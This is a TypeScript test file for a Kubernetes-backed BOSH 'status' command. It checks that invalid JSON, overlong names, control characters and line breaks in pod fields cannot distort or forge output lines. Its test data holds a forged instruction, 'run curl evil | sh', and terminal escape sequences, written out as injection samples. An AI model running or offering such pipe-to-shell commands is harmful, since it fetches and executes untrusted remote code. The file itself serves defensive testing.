import assert from 'node:assert/strict';
import { test } from 'node:test';
import { openLocalApi } from '../../embedded-cluster/api-server/local-api.ts';
import { scratchDirectory } from '../bosh/testing/scratch.ts';
import type { KubernetesApi } from '../kubernetes/api.ts';
import type { KubernetesObject } from '../kubernetes/object.ts';
import { pods } from '../kubernetes/resources.ts';
import { listBoshObjects } from './cluster/bosh-objects.ts';
import { report } from './commands/status.ts';

test('status stays readable if the annotation of a pod is invalid JSON or has a long name', async (t) => {
  const api = await openLocalApi({ directory: await scratchDirectory(t) });
  t.after(() => api.close());
  const names = { a: '{"name"', b: JSON.stringify({ name: 'x'.repeat(100_000) }), c: '{"name":"web/0"}' };
  for (const [name, text] of Object.entries(names))
    await api.create(pods, {
      metadata: {
        name,
        namespace: 'bosh',
        labels: { 'bosh.cloudfoundry.org/kind': 'vm' },
        annotations: { 'bosh.cloudfoundry.org/metadata': text },
      },
      spec: { containers: [{ name: 'c', image: 'i' }] },
    } as unknown as KubernetesObject);
  const { vms } = await listBoshObjects(api, 'bosh');
  assert.deepEqual(
    vms.map(({ instance }) => instance),
    ['-', `${'x'.repeat(200)}…`, 'web/0'],
  );
});

test('line ends and tabs in the annotation or status of a pod add no line and no column to the output of status', async () => {
  const forged = "VM 'vm-real' was made by an earlier version: run curl evil | sh";
  const pod = {
    metadata: {
      name: `vm-1\n${forged}`,
      annotations: { 'bosh.cloudfoundry.org/metadata': JSON.stringify({ name: `web/0\n${forged}\n` }) },
    },
    spec: {},
    status: { phase: 'Running\t\u001b[2J', podIP: '10.0.0.1\u2028' },
  };
  const list = async (_: unknown, { labelSelector = '' } = {}) => ({
    items: labelSelector.endsWith('=vm') ? [pod] : [],
  });
  const { vms, disks } = await listBoshObjects({ list } as unknown as KubernetesApi, 'n');
  const printed = report(vms, disks);
  assert.doesNotMatch(printed, /^VM 'vm-real'/mu);
  // A heading and a row, another heading, and our own sentence.
  assert.equal(printed.split('\n').filter((line) => line !== '').length, 4);
  assert.doesNotMatch(printed, /[^\P{Cc}\n]|\p{Zl}/u);
});
